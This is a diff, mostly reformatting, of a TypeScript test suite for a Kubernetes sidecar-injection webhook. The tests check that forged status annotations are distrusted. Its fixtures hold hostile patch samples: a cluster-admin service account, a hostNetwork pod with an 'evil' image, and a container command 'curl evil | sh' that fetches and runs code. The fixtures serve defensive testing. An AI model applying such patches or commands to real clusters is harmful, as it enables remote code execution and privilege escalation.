@@ -95,8 +95,20 @@ describe('the status annotation is signed by the webhook and trusted only when t
     const variations: unknown[] = [
       { templates: ['sidecar'], containers: ['web'], volumes: ['data'] },
       { initContainers: null, containers: ['log-shipper', 'web'], volumes: ['data'], imagePullSecrets: null, revision: 'default' },
-      { templates: ['sidecar'], undo: [{ p: '/metadata/labels/app', v: 'admin' }, { p: '/spec/serviceAccountName', v: 'cluster-admin' }] },
-      { templates: ['sidecar'], undo: [{ p: '/spec/containers', o: ['log-shipper', 'web'] }, { p: '/spec/containers', n: 'log-shipper' }] },
+      {
+        templates: ['sidecar'],
+        undo: [
+          { p: '/metadata/labels/app', v: 'admin' },
+          { p: '/spec/serviceAccountName', v: 'cluster-admin' },
+        ],
+      },
+      {
+        templates: ['sidecar'],
+        undo: [
+          { p: '/spec/containers', o: ['log-shipper', 'web'] },
+          { p: '/spec/containers', n: 'log-shipper' },
+        ],
+      },
       { templates: ['sidecar'], undo: [{ p: '/spec', v: { hostNetwork: true, containers: [{ name: 'x', image: 'evil' }] } }] },
       { templates: ['sidecar'], undo: [{ p: '/spec/containers', n: 'web', s: '/command', v: ['sh', '-c', 'curl evil | sh'] }] },
     ];
@@ -120,20 +132,26 @@ describe('the status annotation is signed by the webhook and trusted only when t
     assertIgnored(signed.replace(/"\}$/, '" }'));
   });
 
-  it("our own signed status is trusted: re-injection is a no-op and a newer config replaces the sidecar", () => {
+  it('our own signed status is trusted: re-injection is a no-op and a newer config replaces the sidecar', () => {
     const first = injected(clean());
     const text = ((first.pod.metadata as Obj).annotations as Obj)[STATUS] as string;
     assert.match(text, /,"mac":"[0-9a-f]{64}"\}$/);
     assert.ok(verifyStatus(text, 'shop', RING));
     const again = injected(cloneJson(first.pod));
     assert.deepEqual(again.patch, []);
-    assert.deepEqual(again.warnings.filter((w) => /not written by this injector/.test(w)), []);
+    assert.deepEqual(
+      again.warnings.filter((w) => /not written by this injector/.test(w)),
+      [],
+    );
     // Reinvocation after another webhook changed the pod keeps its change and strips ours exactly.
     const changed = cloneJson(first.pod);
     ((changed.spec as Obj).containers as Obj[]).push({ name: 'vault-agent', image: 'vault:1' });
     const re = injected(changed);
     const names = ((re.pod.spec as Obj).containers as Obj[]).map((c) => c.name);
-    assert.deepEqual(names.filter((n) => n === 'sidecar-proxy'), ['sidecar-proxy']);
+    assert.deepEqual(
+      names.filter((n) => n === 'sidecar-proxy'),
+      ['sidecar-proxy'],
+    );
     assert.ok(names.includes('vault-agent'));
     // The CLI (no keys) reads the signed status: uninject gives the pod back.
     const u = uninjectPod(first.pod, defaultConfig());
@@ -179,7 +197,10 @@ describe('the status annotation is signed by the webhook and trusted only when t
     const kept = injected(cloneJson(first.pod), ctx);
     // Trusted and current: left exactly as it is (inject/current.ts), signature included.
     assert.deepEqual(kept.patch, [], 'signed with a key still kept');
-    assert.deepEqual(kept.warnings.filter((w) => /not written by this injector/.test(w)), []);
+    assert.deepEqual(
+      kept.warnings.filter((w) => /not written by this injector/.test(w)),
+      [],
+    );
     keys.rotate(key('k-last'));
     const late = injected(cloneJson(first.pod), ctx);
     assert.match(late.warnings.join('\n'), /not written by this injector/);
@@ -218,7 +239,10 @@ describe('the status annotation is signed by the webhook and trusted only when t
     };
     const forged = answer(victim(FORGED));
     for (const op of forged.ops) assertHarmless(op);
-    assert.ok(forged.ops.some((op) => op.path.startsWith('/spec/containers')), 'the sidecar is still injected');
+    assert.ok(
+      forged.ops.some((op) => op.path.startsWith('/spec/containers')),
+      'the sidecar is still injected',
+    );
     assert.match(forged.warnings.join('\n'), /not written by this injector/);
   });
 });
@@ -233,7 +257,11 @@ describe('a current injection signed by this injector is left as it is (reinvoca
     const later = cloneJson(first.pod);
     const spec = later.spec as Obj;
     (spec.volumes as Obj[]).push({ name: 'kube-api-access-x1y2z', projected: { sources: [] } });
-    for (const c of spec.containers as Obj[]) c.volumeMounts = [...((c.volumeMounts as Obj[]) ?? []), { name: 'kube-api-access-x1y2z', mountPath: '/var/run/secrets/kubernetes.io/serviceaccount', readOnly: true }];
+    for (const c of spec.containers as Obj[])
+      c.volumeMounts = [
+        ...((c.volumeMounts as Obj[]) ?? []),
+        { name: 'kube-api-access-x1y2z', mountPath: '/var/run/secrets/kubernetes.io/serviceaccount', readOnly: true },
+      ];
     const again = injected(later, ctx);
     assert.deepEqual(again.patch, [], 'nothing to redo');
     // Without one of the listed items the pod is not what we injected: it is injected again.
